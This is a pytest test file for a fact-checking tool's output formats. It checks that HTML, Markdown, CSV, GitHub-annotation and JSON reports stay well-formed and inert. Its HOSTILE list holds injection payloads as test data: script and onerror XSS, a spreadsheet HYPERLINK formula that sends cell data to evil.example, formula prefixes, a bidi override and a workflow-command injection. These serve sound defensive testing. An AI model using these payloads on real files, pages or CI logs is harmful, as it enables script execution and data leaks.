"""Hostile text through every format: output stays well-formed and inert."""

import csv
import io
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser

import pytest

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
    "a | b || c", "line one\nline two", "`code` ``x``", "**bold** [link](http://evil.example)",
    "right\u202eto-left", "::error::injected%0A::warning::", "$x^2$ @someone & &amp;",
]


@pytest.fixture
def hostile(project):
    claims = ["event: e", "claims:"]
    for i, text in enumerate(HOSTILE):
        for source in ("a", "b"):
            claims.append(f"  - id: h{i}{source}\n    source: {source}\n    measure: {json.dumps('m ' + text)}"
                          f"\n    value: {{text: {json.dumps(text if source == 'a' else 'something else')}}}"
                          f"\n    quote: {json.dumps(text)}"
                          f"\n    note: {json.dumps(text)}")
    return project("\n".join(claims) + "\n")


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "table", "tr", "th", "td", "p", "div", "s",
                "span", "strong", "br", "blockquote", "bdi", "ul", "li", "a", "svg", "line", "polyline", "circle", "text"}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.stack, self.text = [], [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs
        if tag not in ("meta", "br"):
            self.stack.append(tag)

    def handle_endtag(self, tag):
        assert self.stack.pop() == tag, f"unbalanced </{tag}>"

    def handle_data(self, data):
        self.text.append(data)


@pytest.mark.parametrize("command", ["check", "report"])
def test_html_is_well_formed_and_inert(cli, hostile, command):
    out = cli(command, hostile, "--format", "html").stdout
    parser = Tags()
    parser.feed(out)
    assert parser.stack == []
    assert set(parser.tags) <= ALLOWED_TAGS
    assert "script" not in parser.tags and "img" not in parser.tags
    assert not [name for name, _ in parser.attrs if name.startswith("on") or name == "src"]
    assert all(v.startswith("#claim-") for name, v in parser.attrs if name == "href")  # no link came from a quote
    text = "".join(parser.text)
    assert "<script>alert(1)</script>" in text  # shown as text, not run


def test_html_titles_the_page_and_each_event(cli):
    out = cli("report", "--format", "html").stdout
    assert "<title>factcheck report</title>" in out and "<h1>factcheck report</h1>" in out
    assert "<h2><bdi>French air raid on Raqqa, 16–17 November 2015</bdi>" in out


def test_html_has_matrix_claims_and_nothing_to_fetch(cli):
    out = cli("report", "--format", "html").stdout
    assert 'class="matrix"' in out and "Both targets were hit and destroyed simultaneously." in out
    head = out.split("<body>")[0]
    assert "http:" not in head and "https:" not in head and "//" not in head  # nothing to fetch


def test_markdown_tables_keep_their_shape(cli, hostile):
    out = cli("report", hostile, "--format", "markdown").stdout
    for block in out.split("\n\n"):
        rows = [line for line in block.splitlines() if line.startswith("|")]
        if not rows:
            continue
        # pipes that are not escaped delimit cells: every row of a table has as many
        widths = {len([i for i, ch in enumerate(row) if ch == "|" and row[i - 1] != "\\"]) for row in rows}
        assert len(widths) == 1, block
    assert "<script" not in out and "<img" not in out
    assert "\u202e" not in out and "&lt;U+202E&gt;" in out  # shown, never acted on
    assert "line one<br>line two" in out
    assert "\\[link\\](http://evil.example)" in out


def test_csv_is_rfc4180_and_formulas_are_neutralised(cli, hostile, tmp_path):
    assert cli("report", hostile, "--format", "csv", "--output", tmp_path / "r.csv").exit_code == 0
    out = (tmp_path / "r.csv").read_bytes().decode("utf-8")
    assert out.count("\r\n") >= len(HOSTILE) * 2 + 1
    rows = list(csv.reader(io.StringIO(out, newline="")))
    header, body = rows[0], rows[1:]
    assert header[:6] == ["id", "source", "event", "measure", "value", "verdict"]
    assert len(body) == len(HOSTILE) * 2 and {len(r) for r in body} == {len(header)}
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    values = {r[0]: r[4] for r in body}
    assert values["h2a"] == "'" + HOSTILE[2] and values["h9a"] == "line one\nline two"


def test_csv_of_the_worked_example(cli):
    rows = list(csv.DictReader(io.StringIO(cli("check", "--format", "csv").stdout, newline="")))
    assert len(rows) == 14
    by_id = {r["id"]: r for r in rows}
    assert by_id["rbss-strikes"]["verdict"] == "contradicted" and by_id["rbss-strikes"]["line"] == "4"


def test_github_annotations_cannot_be_injected(cli, hostile):
    result = cli("check", hostile, "--format", "github", "--fail-on", "unaddressed")
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert all(line.startswith(("::error file=", "::notice title=factcheck::")) for line in lines)
    errors = [line for line in lines if line.startswith("::error")]
    assert len(errors) == 10  # every hostile claim is undecided, so unaddressed; GitHub shows ten, the notice counts the rest
    assert f"{len(HOSTILE) * 2 - 10} more errors" in lines[-1]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_annotation_is_one_line_whatever_it_holds(text):
    from factcheck.formats.github import annotation
    from factcheck.model import Location

    line = annotation("error", Location(text, 1, 1), text, f"{text}\n{text}")
    assert line.endswith("\n") and "\n" not in line[:-1] and "\r" not in line
    command, properties_end = line[2:].split(" ", 1)[0], line.index("::", 2)
    assert command == "error" and "," not in line[line.index("title="):properties_end]  # no property smuggled in
    if "\n" in text:
        assert "%0A" in line


def test_github_annotations_are_worst_first_and_follow_fail_on(cli, tmp_path):
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    env = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)}
    lines = cli("check", "--fail-on", "finding", env=env).stdout.splitlines()
    kinds = [re.match(r"::(\w+) .*title=([^:]+)", line).groups() for line in lines[:-1]]
    assert kinds[:3] == [("error", "contradicted%3A rbss-strikes"), ("error", "contradicted%3A mod-targets"),
                         ("error", "factcheck rule")]
    assert len(kinds) == 10 and "3 more errors and 0 more warnings are not annotated" in lines[-1]
    assert summary.read_text().startswith("earlier step\n# factcheck: discrepancies")  # appended to
    default = cli("check", env={"GITHUB_ACTIONS": "true"}).stdout.splitlines()
    assert [line.split(" ")[0] for line in default] == ["::error", "::error", "::warning", "::notice"]  # a finding warns


def test_github_is_the_default_under_github_actions(cli):
    out = cli("check", env={"GITHUB_ACTIONS": "true"}).stdout
    assert out.startswith("::error file=claims/raqqa-raid.yaml,line=4,col=5,")
    assert "::warning file=claims/us-campaign.yaml,line=30,col=5,title=factcheck rule::" in out  # it fails nothing


@pytest.mark.parametrize("fmt", ["json", "markdown", "csv", "html", "github", "table"])
def test_every_format_for_diff(cli, fmt):
    result = cli("diff", "rbss", "mod", "--format", fmt)
    assert result.exit_code == 1
    assert "rbss" in result.stdout and "mod" in result.stdout  # annotations name both sources too


def test_sources_has_no_github_format(cli):
    result = cli("sources", "--format", "github")
    assert result.exit_code == 2 and "does not apply to 'sources'" in result.stderr


def test_json_with_hostile_text_round_trips(cli, hostile):
    data = json.loads(cli("report", hostile, "--format", "json").stdout)
    assert {c["value"] for c in data["claims"] if c["source"] == "a"} == {h.strip() for h in HOSTILE}


BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(not BROWSER, reason="no headless browser installed")
def test_html_renders_in_a_real_browser(cli, tmp_path):
    page = tmp_path / "report.html"
    assert cli("report", "--format", "html", "--output", page).exit_code == 0
    result = subprocess.run(
        [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "raqqa-raid-2015-11-16" in result.stdout and 'class="matrix"' in result.stdout



def test_the_github_notice_counts_in_good_english(cli, project):
    claims = "event: e\nclaims:\n" + "".join(f"  - {{source: a, measure: m{i}, value: 1}}\n" for i in range(11))
    lines = cli("check", project(claims), "--format", "github", "--fail-on", "unaddressed").stdout.splitlines()
    assert "1 more error and 0 more warnings are not annotated" in lines[-1]


def test_a_note_says_which_source_relays_which(report):
    _, v = report("""
        event: e
        claims:
          - {id: x, source: a, measure: m, value: 1, via: [c]}
          - {id: y, source: b, measure: m, value: 1}
        """, sources="sources:\n  - {id: a, name: A}\n  - {id: b, name: B}\n  - {id: c, name: C, relays: [b]}\n")
    assert "x came through c, and c relays b" in v["x"].notes[0]


def test_the_sources_table_never_breaks_a_document_path(cli, project, tmp_path):
    doc = "sdf-bali-2019-03-23-statement-of-the-ministry.txt"
    root = project("event: e\nclaims:\n  - {source: a, measure: m, value: 1}\n",
                   sources=f"sources:\n  - {{id: a, name: A long name for a source, document: {doc}}}\n",
                   extra={f"sources/{doc}": "text"})
    out = cli("sources", root, env={"COLUMNS": "80"}).stdout
    assert any(line.startswith("  a  ") and line.endswith(f"sources/{doc}") for line in out.splitlines()), out


def test_diff_names_each_event_once(cli):
    out = cli("diff", "rbss", "mod", env={"COLUMNS": "80"}).stdout
    assert out.count("French air raid on") == 1
